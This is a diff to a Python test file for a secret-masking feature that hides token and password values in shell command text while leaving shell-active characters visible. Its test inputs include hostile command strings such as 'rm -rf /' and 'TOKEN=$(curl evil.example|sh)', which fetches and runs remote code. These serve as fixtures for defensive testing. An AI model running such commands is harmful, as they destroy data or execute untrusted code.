@@ -10,7 +10,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from crabhook.ui.secrets import masked, names_a_secret
+from crabhook.secrets.assigned import names_a_secret
+from crabhook.ui.secrets import masked
 from crabhook.ui.text.code import field_rows
 from crabhook.ui.text.safe import safe
 from crabhook.ui.text.width import CHUNK, Mask, wrapped
@@ -18,6 +19,7 @@ from tests.support.sitting import Sitting
 
 SAMPLES = Path(__file__).parents[3] / "samples" / "secrets"
 ALPHABETS = {"url": "aB3-_", "alnum": "aB3x", "hex": "0a7f", "upper": "A3QZ", "digits": "4711", "b64": "aB3+/", "lower": "qxz"}  # fmt: skip
+QUOTED = re.compile(r"'[^'\"`$\\]*'|\"[^'\"`$\\]*\"")
 SHELL = set("|;&$()<>`\"'{}*?[]!\\")
 
 
@@ -46,7 +48,8 @@ def covers(text: str) -> bool:
     ("text", "shown"),
     [
         ("export API_TOKEN=abcd1234 && rm -rf /", "export API_TOKEN=•••••••• && rm -rf /"),
-        ("PASSWORD='a b' run", "PASSWORD='a b' run"),  # a blank ends it, too short to cover
+        ("PASSWORD='a b' run", "PASSWORD='•••' run"),
+        ("eval PASSWORD='a b' run", "eval PASSWORD='• b' run"),  # a blank ends it
         ("TOKEN=$(curl evil.example|sh)", "TOKEN=$(curl evil.example|sh)"),
         ("TOKEN=abcd;rm -rf /", "TOKEN=••••;rm -rf /"),
         ("TOKEN=abcd|sh", "TOKEN=••••|sh"),
@@ -85,8 +88,11 @@ def test_of_innocent_texts_nearly_none_is_touched() -> None:
 def test_nothing_a_shell_acts_on_is_ever_covered_and_no_letter_moves(text: str) -> None:
     shown = masked(text)
     assert len(shown) == len(text)
-    for before, after in zip(text, shown, strict=True):
-        assert before == after or (after == "•" and before not in SHELL and not before.isspace())
+    quoted = {place for found in QUOTED.finditer(text) for place in range(*found.span())}
+    for place, (before, after) in enumerate(zip(text, shown, strict=True)):
+        is_blank = before in " \t" and place in quoted
+        plain = before not in SHELL and not before.isspace()
+        assert before == after or (after == "•" and (plain or is_blank))
     assert masked(shown) == shown
 
 
